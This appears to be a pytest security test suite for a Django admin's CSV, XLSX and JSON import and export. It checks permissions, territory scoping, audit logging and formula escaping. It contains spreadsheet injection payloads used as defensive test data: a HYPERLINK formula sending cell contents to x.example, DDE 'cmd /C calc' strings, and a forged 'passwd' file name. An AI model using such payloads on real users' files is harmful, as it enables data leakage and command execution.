"""Admin imports and exports obey the same rules as the change form (finding 1, 2, 3, 6)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from records.models import (
    Activity,
    AuditEntry,
    CaseRecord,
    Certificate,
    CommitteeMember,
    Territory,
    TerritoryAssignment,
)
from tests.security.conftest import MEMBER, leaked

pytestmark = pytest.mark.django_db

CSV = "0"


def csv_file(header, rows, name="datos.csv"):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return SimpleUploadedFile(name, buffer.getvalue().encode())


def upload(client, model, header, rows):
    return client.post(f"/admin/records/{model}/import/", {
        "resource": "0", "format": CSV, "import_file": csv_file(header, rows)})


def confirm(client, model, response):
    return client.post(f"/admin/records/{model}/process_import/",
                       response.context["confirm_form"].initial)


@pytest.mark.parametrize("username", ["analista", "atencion"])
@pytest.mark.parametrize("model", ["committeemember", "attendee", "territory", "activity",
                                   "commitment", "indicatorvalue"])
def test_roles_that_cannot_write_a_model_have_no_import_door(client, user_named, elsewhere,
                                                             username, model):
    client.force_login(user_named(username))
    assert client.get(f"/admin/records/{model}/import/").status_code == 403
    member = elsewhere["member"]
    response = upload(client, model, ["id", "role"], [[member.pk, "Fiscal"]])
    assert response.status_code == 403
    assert not leaked(response.content.decode())
    assert client.post(f"/admin/records/{model}/process_import/", {
        "import_file_name": "x", "original_file_name": "x.csv", "format": CSV,
        "resource": "0"}).status_code == 403


@pytest.mark.parametrize("model", ["certificate", "territoryassignment", "caserecord", "case",
                                   "casestep", "transition", "auditentry"])
@pytest.mark.parametrize("username", ["coordinador", "gestor_norte"])
def test_records_that_change_only_through_services_are_never_importable(client, user_named,
                                                                        demo, model, username):
    client.force_login(user_named(username))
    assert client.get(f"/admin/records/{model}/import/").status_code != 200


def test_a_preview_naming_another_territorys_member_shows_an_error_and_none_of_their_data(
        client, user_named, elsewhere):
    client.force_login(user_named("gestor_norte"))
    member = elsewhere["member"]
    response = upload(client, "committeemember", ["id", "role"], [[member.pk, "Fiscal"]])
    body = response.content.decode()
    assert response.status_code == 200
    assert "no existe o no tiene permiso" in body
    assert leaked(body) == []
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    member.refresh_from_db()
    assert member.role == "Tesorero"


def test_a_manager_cannot_move_their_record_into_another_territory_by_import(
        client, user_named, elsewhere):
    client.force_login(user_named("gestor_norte"))
    own = CommitteeMember.objects.filter(territory__code="TER-N-001").first()
    response = upload(client, "committeemember", ["id", "territory", "role"],
                      [[own.pk, elsewhere["territory"].code, "Fiscal"]])
    assert "no existe o no tiene permiso" in response.content.decode()
    own.refresh_from_db()
    assert own.territory.code == "TER-N-001"


def test_a_new_row_cannot_choose_its_id_nor_land_outside_every_territory(client, user_named, demo):
    client.force_login(user_named("gestor_norte"))
    before = Activity.objects.count()
    south = Activity.objects.filter(territory__code="TER-S-001").first()
    response = upload(client, "activity", ["Código", "Tipo", "Nombre", "Fecha", "Territorio"],
                      [["ACT-2026-9876", "prevencion", "Con código inventado", "2026-10-01",
                        "TER-N-001"],
                       ["", "Prevención y promoción", "Sin territorio", "2026-10-01", ""],
                       [south.code, "prevencion", "De otro territorio", "2026-10-01", "TER-N-001"]])
    body = response.content.decode()
    assert "La actividad «ACT-2026-9876» no existe o no tiene permiso" in body
    assert "Indique uno de sus territorios" in body
    assert f"La actividad «{south.code}» no existe o no tiene permiso" in body
    assert Activity.objects.count() == before


def test_a_territory_import_by_a_manager_is_refused_whole(client, user_named, demo):
    client.force_login(user_named("gestor_norte"))
    south = Territory.objects.get(code="TER-S-001")
    assert upload(client, "territory", ["code", "name", "locality"],
                  [[south.code, "Renombrado", south.locality.code]]).status_code == 403
    south.refresh_from_db()
    assert south.name != "Renombrado"


def test_personal_columns_are_refused_for_users_who_may_not_see_them(client, user_named, demo,
                                                                     settings):
    from django.contrib.auth.models import Permission

    # A role that may add activities and attendees but not read personal data.
    user = user_named("analista")
    user.user_permissions.add(*Permission.objects.filter(
        codename__in=["add_attendee", "change_attendee", "add_committeemember",
                      "change_committeemember"]))
    client.force_login(user)
    member = CommitteeMember.objects.first()
    response = upload(client, "committeemember", ["id", "territory", "full_name", "role"],
                      [[member.pk, member.territory.code, "Otro Nombre", "Fiscal"]])
    body = response.content.decode()
    assert "columnas de datos personales" in body and "(Nombre completo)" in body
    form_page = client.get("/admin/records/committeemember/import/").content.decode()
    assert "Número de documento" not in form_page and "Nombre completo" not in form_page
    member.refresh_from_db()
    assert member.full_name != "Otro Nombre"


def test_a_file_path_in_a_cell_never_reaches_a_record(client, user_named, elsewhere):
    client.force_login(user_named("coordinador"))
    record = CaseRecord.objects.exclude(file="").first() or CaseRecord.objects.first()
    attachment_path = elsewhere["attachment"].file.name
    response = upload(client, "caserecord", ["id", "file"], [[record.pk, attachment_path]])
    assert response.status_code == 403
    record.refresh_from_db()
    assert record.file.name != attachment_path


def test_an_analyst_cannot_create_a_certificate_by_import(client, user_named, demo):
    client.force_login(user_named("analista"))
    before = Certificate.objects.count()
    case = Certificate.objects.first().case
    response = upload(client, "certificate", ["case", "territory", "number", "issued_on",
                                              "valid_until"],
                      [[case.pk, case.territory_id, "CTS-2099-0001", "2026-01-01", "2028-01-01"]])
    assert response.status_code in (403, 404)
    assert Certificate.objects.count() == before
    assert client.get("/api/certifications/", {"format": "json"}).content.decode().count(
        "CTS-2099-0001") == 0


def test_an_assignment_cannot_be_created_by_import(client, user_named, demo):
    client.force_login(user_named("coordinador"))
    before = TerritoryAssignment.objects.count()
    assert upload(client, "territoryassignment", ["territory", "user"],
                  [[1, 1]]).status_code in (403, 404)
    assert TerritoryAssignment.objects.count() == before


def test_dry_run_and_confirmation_are_in_the_audit_trail(client, user_named, demo):
    user = user_named("gestor_norte")
    client.force_login(user)
    own = CommitteeMember.objects.filter(territory__code="TER-N-001").first()
    response = upload(client, "committeemember", ["id", "role"], [[own.pk, "Vocal de prueba"]])
    assert response.context["confirm_form"] is not None
    entries = AuditEntry.objects.filter(action="import", actor_name="gestor_norte")
    assert entries.count() == 1
    assert entries.first().changes["ensayo"] is True
    assert str(own.pk) in entries.first().changes["ids"]
    assert confirm(client, "committeemember", response).status_code == 302
    own.refresh_from_db()
    assert own.role == "Vocal de prueba"
    assert entries.count() == 2
    assert entries.filter(changes__ensayo=False).exists()


def test_only_the_file_this_session_previewed_can_be_confirmed(client, user_named, demo):
    client.force_login(user_named("gestor_norte"))
    own = CommitteeMember.objects.filter(territory__code="TER-N-001").first()
    response = upload(client, "committeemember", ["id", "role"], [[own.pk, "Vocal"]])
    data = dict(response.context["confirm_form"].initial)
    forged = {**data, "import_file_name": "passwd"}
    assert client.post("/admin/records/committeemember/process_import/", forged).status_code == 302
    own.refresh_from_db()
    assert own.role != "Vocal"
    assert confirm(client, "committeemember", response).status_code == 302
    # A second confirmation of the same file does nothing more.
    assert client.post("/admin/records/committeemember/process_import/", data).status_code == 302
    assert AuditEntry.objects.filter(action="import", changes__ensayo=False).count() == 1


def test_a_row_that_became_invalid_before_confirmation_undoes_the_whole_file(
        client, user_named, demo):
    from guardian.shortcuts import remove_perm

    user = user_named("gestor_norte")
    client.force_login(user)
    first, second = CommitteeMember.objects.filter(territory__code__startswith="TER-N")[:2]
    response = upload(client, "committeemember", ["id", "role"],
                      [[first.pk, "Uno"], [second.pk, "Dos"]])
    assert response.context["confirm_form"] is not None
    # Between preview and confirmation the second member's territory is taken away.
    from django.contrib.auth.models import Group

    group = Group.objects.get(name="Gestores territoriales")
    for holder in (user, group):
        remove_perm("records.view_territory", holder, second.territory)
    confirm(client, "committeemember", response)
    first.refresh_from_db()
    assert first.role != "Uno"


FORMULAS = ["==HYPERLINK(\"http://x.example/?\"&A1,\"ver\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("fmt, index", [("csv", "0"), ("xlsx", "1"), ("json", "2")])
def test_exports_escape_formulas_in_every_format_and_import_them_back(
        client, user_named, demo, fmt, index):
    import json

    client.force_login(user_named("coordinador"))
    territory = Territory.objects.get(code="TER-N-001")
    activities = [Activity.objects.create(kind="prevencion", title=text, date="2026-10-01",
                                          territory=territory, place="-3.5")
                  for text in FORMULAS]
    response = client.post("/admin/records/activity/export/", {
        "format": index, "resource": "0",
        **{f"activityresource_{f}": "on" for f in ["code", "title", "place"]}})
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        values = [str(cell.value) for cell in cells if cell.value is not None]
    elif fmt == "json":
        values = [str(v) for row in json.loads(response.content) for v in row.values()]
    else:
        values = [v for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
                  for v in row]
    for text in FORMULAS:
        assert "'" + text in values, text
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in values)
    assert "-3.5" in values  # a plain negative number stays a number
    # The escaped file imports back to the original text.
    ids = {a.pk for a in activities}
    Activity.objects.filter(pk__in=ids).update(title="cambiado")
    upload_file = SimpleUploadedFile(f"actividades.{fmt}", response.content)
    preview = client.post("/admin/records/activity/import/", {
        "resource": "0", "format": index, "import_file": upload_file})
    assert preview.context["confirm_form"] is not None, preview.content.decode()[-3000:]
    client.post("/admin/records/activity/process_import/",
                preview.context["confirm_form"].initial)
    # Exact in every format: the file waits between preview and confirmation as bytes
    # (private storage), so not even a lone carriage return is rewritten.
    assert sorted(Activity.objects.filter(pk__in=ids).values_list("title", flat=True)) == sorted(
        FORMULAS)


def test_enrolment_names_become_no_live_formula_in_the_coordinators_export(
        client, user_named, demo):
    client.force_login(user_named("coordinador"))
    territory = Territory.objects.get(code="TER-N-001")
    territory.name = "==HYPERLINK(\"http://x.example\",\"Barrio\")"
    territory.save()
    response = client.post("/admin/records/territory/export/", {
        "format": "1", "resource": "0",
        **{f"territoryresource_{f}": "on" for f in ["code", "name"]}})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_exports_need_the_view_permission(client, user_named, demo):
    client.force_login(user_named("atencion"))
    assert client.get("/admin/records/attendee/export/").status_code == 403
    assert MEMBER["full_name"] not in client.post("/admin/records/committeemember/export/", {
        "format": "0", "resource": "0"}).content.decode()


def test_a_bad_filter_value_on_the_export_is_a_message_not_an_error(client, user_named, demo):
    client.force_login(user_named("analista"))
    for params in ({"active": "xyz"}, {"id": "abc"}, {"territory__id__exact": "abc"}):
        response = client.get("/admin/records/committeemember/export/", params)
        assert response.status_code == 302, params


def test_a_confirmation_with_another_format_than_its_preview_is_refused(client, user_named, demo):
    client.force_login(user_named("gestor_norte"))
    own = CommitteeMember.objects.filter(territory__code="TER-N-001").first()
    response = upload(client, "committeemember", ["id", "role"], [[own.pk, "Vocal"]])
    data = {**response.context["confirm_form"].initial, "format": "1"}
    answer = client.post("/admin/records/committeemember/process_import/", data)
    assert answer.status_code == 302
    own.refresh_from_db()
    assert own.role != "Vocal"


def test_a_preview_is_confirmed_only_at_the_list_it_was_previewed_in(client, user_named, demo):
    client.force_login(user_named("gestor_norte"))
    own = CommitteeMember.objects.filter(territory__code="TER-N-001").first()
    response = upload(client, "committeemember", ["id", "role"], [[own.pk, "Vocal"]])
    data = response.context["confirm_form"].initial
    answer = client.post("/admin/records/commitment/process_import/", data, follow=True)
    assert "Esa importación no existe" in answer.content.decode()
    # Still confirmable where it was previewed.
    assert client.post("/admin/records/committeemember/process_import/", data).status_code == 302
    own.refresh_from_db()
    assert own.role == "Vocal"


@pytest.mark.parametrize("content", [b"[[1, 2]]", b"[{}]"])
def test_a_json_file_without_headers_is_a_clear_error(client, user_named, demo, content):
    client.force_login(user_named("gestor_norte"))
    response = client.post("/admin/records/activity/import/", {
        "resource": "0", "format": "2",
        "import_file": SimpleUploadedFile("datos.json", content)})
    assert response.status_code == 200
    assert "no tiene una fila de encabezados" in response.content.decode()
